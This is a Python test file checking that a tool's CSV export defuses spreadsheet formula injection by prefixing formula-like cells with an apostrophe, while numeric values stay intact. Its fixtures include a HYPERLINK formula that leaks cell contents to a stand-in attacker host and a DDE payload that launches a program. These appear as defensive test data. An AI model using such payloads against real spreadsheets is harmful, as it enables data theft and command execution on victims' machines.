"""`formwork results --format csv` writes text as text (issue 41 point 6).

A value grounded in a message, a record's key or an error that quotes the text may begin like a
spreadsheet formula; written as it was, `=HYPERLINK(...)` opened as a live link. Each such cell is
prefixed with `'` (OWASP, CSV Injection); a JSON number stays a number, negative or not. The rows are
judged by the real judge and stored in a real SQLite database, then read back through the command.
"""

from __future__ import annotations

import csv
import io
import json

from typer.testing import CliRunner

from formwork.db.session import session_factory
from formwork.db.store import QueuePolicy, finish_run, save_outcomes, start_run, store_records
from formwork.flows.cli import app
from formwork.schemas.registry import load_schema
from formwork.tasks.calls import Outcome
from formwork.tasks.engines.base import Completion
from formwork.tasks.sources.records import InputRecord
from formwork.tasks.spreadsheet import text_cell
from formwork.tasks.validate import Verdict, judge

EXPENSE = load_schema("expense")
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Tom")'
TEXTS = {
    "=1+2": f"Taxi 35 EUR on 2024-05-02, paid by {LINK}",  # the key too: an id from the input file
    "@sum": "@SUM(1+1) Lunch 12 EUR, who: +Ann",
    "refund": "Refund -12.5 EUR, who: -Bo",
}
DATA = {
    "=1+2": {"who": LINK, "date": "2024-05-02", "amount": 35, "currency": "EUR", "category": "transport",
             "project": None},
    "@sum": {"who": "+Ann", "date": None, "amount": 12, "currency": "EUR", "category": "meals",
             "project": "@SUM(1+1)"},
}  # fmt: skip


def done(text: str) -> Completion:
    return Completion(text, "stop", 10, 10, 0.1, "test")


def test_cells_that_begin_like_formulas_are_text_and_numbers_stay_numbers(tmp_path) -> None:
    url = f"sqlite:///{tmp_path}/csv.db"
    with session_factory(url)() as session:
        ids = store_records(session, "test", [InputRecord(k, t) for k, t in TEXTS.items()])
        run_id = start_run(session, EXPENSE, flow="test", source="test", engine="local",
                           reasoning_model="test", formatting_model="test")  # fmt: skip
        verdicts = [judge(EXPENSE, TEXTS[key], done("notes"), done(json.dumps(DATA[key]))) for key in DATA]
        assert [v.status for v in verdicts] == ["ok", "ok"]  # the judge keeps what the text writes
        # a number the schema lets be negative (a user's ledger), and a string that looks like one
        data, errors = {"who": "-Bo", "amount": -12.5}, ["=cmd|' /C calc'!A0 was refused"]
        refund = Verdict("partial", data, errors=errors)
        outcomes = [Outcome(i, v, 1) for i, v in zip(ids, [*verdicts, refund], strict=True)]
        save_outcomes(session, run_id, EXPENSE, outcomes, QueuePolicy())
        finish_run(session, run_id)
    written = CliRunner().invoke(app, ["results", "--db", url, "--format", "csv"])
    assert written.exit_code == 0, written.output
    header, *rows = csv.reader(io.StringIO(written.stdout))
    by_key = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_key) == {"'=1+2", "'@sum", "refund"}
    assert by_key["'=1+2"]["who"] == "'" + LINK
    assert (by_key["'@sum"]["who"], by_key["'@sum"]["project"]) == ("'+Ann", "'@SUM(1+1)")
    assert by_key["refund"]["who"] == "'-Bo" and by_key["refund"]["amount"] == "-12.5"  # a number, as is
    assert by_key["refund"]["errors"] == "'=cmd|' /C calc'!A0 was refused"
    assert by_key["'=1+2"]["amount"] == "35" and by_key["'=1+2"]["status"] == "ok"
    live = [c for row in rows for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r")) and c != "-12.5"]
    assert not live


def test_only_text_that_begins_like_a_formula_is_prefixed() -> None:
    for sign in ("=", "+", "-", "@", "\t", "\r"):
        assert text_cell(f"{sign}1") == f"'{sign}1"
    assert [text_cell(v) for v in (-12.5, -3, 0, None, True, "Tom", "a=b", " =1", "")] == [
        -12.5, -3, 0, None, True, "Tom", "a=b", " =1", ""]  # fmt: skip
